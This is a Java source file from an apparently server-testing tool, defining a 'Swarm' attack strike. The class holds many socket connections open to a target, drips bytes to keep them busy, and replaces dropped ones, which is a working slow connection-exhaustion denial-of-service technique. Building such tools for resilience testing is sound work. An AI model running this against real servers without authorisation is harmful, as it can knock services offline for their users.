package dev.parley.journey.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/** Many connections that one attack holds open and keeps busy. Those that the server ends are replaced. */
final class Swarm implements Attack.Strike {
    private final Target target;
    private final int most;
    private final int more;
    private final byte[] opening;
    private final byte[] drip;
    private final boolean reads;
    private final List<SocketChannel> open = new ArrayList<>();
    private final ByteBuffer read = ByteBuffer.allocate(16 * 1024);

    /**
     * Prepares; no connection is made before the first strike.
     *
     * @param most connections at once
     * @param more connections made in each strike
     * @param opening sent at first
     * @param drip sent in each strike
     * @param reads whether it reads what it is answered
     */
    Swarm(Target target, int most, int more, byte[] opening, byte[] drip, boolean reads) {
        this.target = target;
        this.most = most;
        this.more = more;
        this.opening = opening;
        this.drip = drip;
        this.reads = reads;
    }

    /** Adds connections and sends a little on all of them. */
    @Override
    public void once() throws IOException {
        try {
            for (int i = 0; i < more && open.size() < most; i++) {
                SocketChannel channel = target.connect();
                open.add(channel);
                channel.write(ByteBuffer.wrap(opening));
            }
        } finally {
            for (Iterator<SocketChannel> each = open.iterator(); each.hasNext(); ) {
                SocketChannel channel = each.next();
                if (!isAlive(channel)) {
                    channel.close();
                    each.remove();
                }
            }
        }
    }

    private boolean isAlive(SocketChannel channel) {
        try {
            channel.write(ByteBuffer.wrap(drip));
            read.clear();
            return !reads || channel.read(read) >= 0;
        } catch (IOException e) {
            return false;
        }
    }

    @Override
    public void leave() throws IOException {
        for (SocketChannel channel : open) {
            channel.close();
        }
        open.clear();
    }
}
